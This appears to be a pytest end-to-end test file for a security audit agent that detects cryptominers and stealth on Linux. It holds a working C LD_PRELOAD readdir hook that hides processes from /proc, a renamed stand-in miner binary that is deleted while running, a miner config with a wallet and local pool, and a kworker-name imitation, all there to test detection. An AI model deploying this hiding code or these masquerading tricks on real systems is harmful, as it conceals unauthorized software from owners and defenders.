"""End to end on the real host: a renamed compiled miner found by content (also after its file is deleted),
a process hidden by a real LD_PRELOAD readdir hook, a miner whose pool is only in its config file, and a
kernel-thread imitation. Every process started here is ended by its PID."""
from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from audit_agent.collect import CollectOptions, collect_snapshot
from audit_agent.pipeline import load_inputs, run_scan
from tests.conftest import MONERO_WALLET, have_compiler, start_miner

pytestmark = [pytest.mark.e2e,
              pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc and uses LD_PRELOAD")]
needs_cc = pytest.mark.skipif(not have_compiler(), reason="no C compiler (cc/gcc) on this machine")

BURNER_C = r"""
#include <stdio.h>
#include <string.h>
#include <time.h>
static const char *const SIGNATURES[] = { %s };
int main(void) {
    volatile unsigned long sink = 0;
    size_t n = sizeof(SIGNATURES) / sizeof(SIGNATURES[0]);
    for (size_t i = 0; i < n; i++) sink += strlen(SIGNATURES[i]);   /* keep every string in the binary */
    printf("ready\n");
    fflush(stdout);
    time_t end = time(NULL) + 120;                                     /* never outlives a broken test */
    while (time(NULL) < end) for (unsigned long k = 0; k < 5000000UL; k++) sink = sink * 31 + k;
    return (int)(sink & 1);
}
"""

HIDER_C = r"""
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
/* libprocesshider-like: drop /proc/<pid> entries whose pid is HIDE_PID or whose comm is HIDE_COMM. */
static int is_proc(DIR *dirp) {
    char link[64], path[256];
    snprintf(link, sizeof link, "/proc/self/fd/%d", dirfd(dirp));
    ssize_t n = readlink(link, path, sizeof path - 1);
    if (n < 0) return 0;
    path[n] = 0;
    return strcmp(path, "/proc") == 0;
}
static int hidden(const char *name) {
    const char *pid = getenv("HIDE_PID"), *comm = getenv("HIDE_COMM");
    if (pid && strcmp(name, pid) == 0) return 1;
    if (comm) {
        char path[300], buf[64] = {0};
        snprintf(path, sizeof path, "/proc/%s/comm", name);
        FILE *f = fopen(path, "r");
        if (f) { if (fgets(buf, sizeof buf, f)) buf[strcspn(buf, "\n")] = 0; fclose(f); }
        if (strcmp(buf, comm) == 0) return 1;
    }
    return 0;
}
#define HOOK(fn, type)                                                            \
    type *fn(DIR *dirp) {                                                         \
        static type *(*real)(DIR *) = NULL;                                       \
        if (!real) real = dlsym(RTLD_NEXT, #fn);                                  \
        type *entry;                                                              \
        while ((entry = real(dirp)) && is_proc(dirp) && hidden(entry->d_name)) {} \
        return entry;                                                             \
    }
HOOK(readdir, struct dirent)
HOOK(readdir64, struct dirent64)
"""


def c_string(text: str) -> str:
    return '"' + "".join(c if c.isalnum() or c in " ./:-_+%'()[]{},=@" else f"\\x{ord(c):02x}\"\"" for c in text) + '"'


def compile_c(source: str, out: Path, *flags: str) -> Path:
    src = out.with_suffix(".c")
    src.write_text(source)
    subprocess.run([have_compiler(), "-O1", "-o", str(out), str(src), *flags], check=True, capture_output=True)
    return out


@pytest.fixture(scope="module")
def inputs():
    return load_inputs()


@pytest.fixture
def burner(tmp_path, inputs):
    """A compiled stand-in miner carrying enough of every strings rule's list, renamed to an innocent name."""
    strings_rules = inputs.rules.string_rules
    if not strings_rules:
        pytest.skip("the rule pack has no executable-content (strings) rules")
    chosen = []
    for rule in strings_rules:
        wanted = int(rule.params.get("min_matches", 1)) + 1
        chosen.extend(str(s) for s in rule.params["strings"][:wanted])
    build = tmp_path / "build"
    build.mkdir()
    program = compile_c(BURNER_C % ", ".join(c_string(s) for s in dict.fromkeys(chosen)), build / "burner")
    innocent = tmp_path / "bin" / "dbus-daemon-helper"
    innocent.parent.mkdir()
    innocent.write_bytes(program.read_bytes())
    innocent.chmod(0o755)
    return innocent


def live_report(inputs, window: float = 1.0):
    snapshot = collect_snapshot(CollectOptions(window=window, signature_strings=inputs.rules.signature_strings(),
                                               yara_sources=inputs.rules.pack.yara_sources,
                                               check_persistence=False))
    return snapshot, run_scan(snapshot, inputs)


def finding_for(report, pid: int):
    found = [f for f in report.findings if f.subject.pid == pid and f.subject.kind == "process"]
    assert len(found) <= 1, "one finding per subject"
    return found[0] if found else None


@needs_cc
def test_renamed_compiled_miner_is_found_by_content_then_after_deletion(burner, processes, inputs):
    miner = processes.start([str(burner), "--session", "--nofork"], wait_for_line="ready")
    snapshot, report = live_report(inputs)
    finding = finding_for(report, miner.pid)
    assert finding is not None, [f.subject for f in report.findings]
    assert finding.severity.rank >= 3
    assert any(e.field == "binary" for e in finding.evidence)
    assert any(r.startswith("AA-BIN") for r in finding.rule_ids)
    scans = [b for b in snapshot.binaries if miner.pid in b.pids]
    assert scans and scans[0].matched_strings and scans[0].path == str(burner)

    burner.unlink()                                     # deleted while it runs: still read via /proc/PID/exe
    snapshot, report = live_report(inputs)
    finding = finding_for(report, miner.pid)
    assert finding is not None and finding.severity.rank >= 3
    assert any(e.field == "binary" for e in finding.evidence)
    assert "AA-STEALTH-001" in finding.rule_ids
    assert [p for p in snapshot.processes if p.pid == miner.pid][0].exe_deleted


@needs_cc
def test_installed_cli_flags_the_renamed_miner(burner, processes, agent, tmp_path):
    miner = processes.start([str(burner)], wait_for_line="ready")
    out = tmp_path / "out.json"
    result = agent("scan", "--window", "1", "--json", str(out), "--quiet")
    assert result.returncode in (0, 1), result.stderr
    report = json.loads(out.read_text())
    mine = [f for f in report["findings"] if f["subject"]["pid"] == miner.pid]
    assert mine and any(e["field"] == "binary" for e in mine[0]["evidence"])
    assert result.returncode == 1


@needs_cc
def test_process_hidden_by_ld_preload_library_is_reported(tmp_path, processes, agent):
    hider = compile_c(HIDER_C, tmp_path / "libhider.so", "-shared", "-fPIC", "-ldl")
    victim = processes.start([sys.executable, "-c", "import time; print('ready', flush=True); time.sleep(120)"],
                             wait_for_line="ready")
    check = subprocess.run([sys.executable, "-c", "import os; print(os.listdir('/proc'))"], capture_output=True,
                           text=True, env={**os.environ, "LD_PRELOAD": str(hider), "HIDE_PID": str(victim.pid)})
    assert f"'{victim.pid}'" not in check.stdout, "the hider really hides the PID from readdir"

    out = tmp_path / "hidden.json"
    result = agent("scan", "--window", "1", "--json", str(out), "--quiet", timeout=180,
                   env={"LD_PRELOAD": str(hider), "HIDE_PID": str(victim.pid)})
    assert result.returncode in (0, 1), result.stderr
    report = json.loads(out.read_text())
    mine = [f for f in report["findings"] if f["subject"]["pid"] == victim.pid]
    assert mine, "the hidden process is reported"
    assert "AA-STEALTH-007" in mine[0]["rule_ids"]
    assert mine[0]["severity"] == "critical"
    host = [f for f in report["findings"] if f["subject"]["kind"] == "host"]
    assert host and "AA-STEALTH-011" in host[0]["rule_ids"], "the library preloaded into the agent is reported"
    assert result.returncode == 1


def test_pool_only_in_config_file(pool, processes, tmp_path, inputs):
    work = tmp_path / "job"
    work.mkdir()
    (work / "conf.json").write_text(json.dumps({
        "donate-level": 1,
        "pools": [{"url": f"stratum+tcp://127.0.0.1:{pool.port}", "user": MONERO_WALLET, "pass": "cfgsecret"}]}))
    named = start_miner(processes, ["backup-sync", "-c", "conf.json"], cwd=work)
    (tmp_path / "other").mkdir()
    (tmp_path / "other" / "config.json").write_text((work / "conf.json").read_text())
    in_cwd = start_miner(processes, ["log-rotate"], cwd=tmp_path / "other")    # no flags: config.json in cwd
    _, report = live_report(inputs)
    for miner in (named, in_cwd):
        finding = finding_for(report, miner.pid)
        assert finding is not None
        assert finding.severity.rank >= 3
        config_evidence = [e for e in finding.evidence if e.field == "config"]
        assert config_evidence and any(MONERO_WALLET in e.value for e in config_evidence)
        assert "AA-CONFIG-001" in finding.rule_ids
    assert "cfgsecret" not in json.dumps(report.to_dict())


def test_kernel_thread_imitation_with_exec_a(processes, inputs):
    fake = processes.start(["bash", "-c", 'exec -a "[kworker/0:1]" sleep 120'])
    import time
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        try:
            if Path(f"/proc/{fake.pid}/cmdline").read_bytes().startswith(b"[kworker"):
                break
        except OSError:
            pass
        time.sleep(0.05)
    _, report = live_report(inputs, window=0.5)
    finding = finding_for(report, fake.pid)
    assert finding is not None and "AA-STEALTH-005" in finding.rule_ids
    assert finding.severity.rank >= 3
